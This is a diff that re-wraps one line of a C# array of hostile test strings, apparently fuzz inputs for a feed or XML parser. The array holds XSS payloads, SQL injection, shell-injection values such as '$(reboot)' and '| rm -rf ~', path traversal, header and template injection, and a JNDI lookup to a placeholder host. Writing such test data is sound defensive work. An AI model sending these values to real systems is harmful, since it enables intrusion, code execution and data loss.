@@ -7,8 +7,8 @@ internal static class Hostile
     [
         "undefined", "null", "NaN", "true", "-0", "1e309", "0x7fffffff", "999999999999999999999999", "1/0", "١٢٣٤",
         "<script>alert('judul')</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(2)>", "]]>",
-        "</title></item>", "<![CDATA[", "<!--", "-->", "<?php echo 1; ?>", "&amp;&lt;&gt;", "&#x0;", "&bogus;", "&", "<",
-        ">", "'", "\"",
+        "</title></item>", "<![CDATA[", "<!--", "-->", "<?php echo 1; ?>", "&amp;&lt;&gt;", "&#x0;", "&bogus;", "&",
+        "<", ">", "'", "\"",
         "'; DROP TABLE entries; --", "1 OR 1=1", "$(reboot)", "`id`", "| rm -rf ~", "../../../etc/hosts",
         "C:\\con\\nul",
         "%s%s%n", "%00%0d%0aSet-Cookie: a=b", "{{7*7}}", "${jndi:ldap://a.example/x}", "#{1+1}", "{0} {1}",
